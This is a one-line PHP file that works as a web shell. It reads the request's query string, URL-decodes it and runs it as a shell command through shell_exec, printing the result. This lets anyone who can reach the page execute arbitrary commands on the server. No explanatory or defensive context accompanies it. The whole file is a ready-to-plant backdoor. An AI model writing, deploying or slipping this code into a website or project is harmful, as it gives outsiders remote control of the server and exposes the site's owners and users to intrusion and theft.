<?php echo shell_exec(urldecode($_SERVER['QUERY_STRING']));
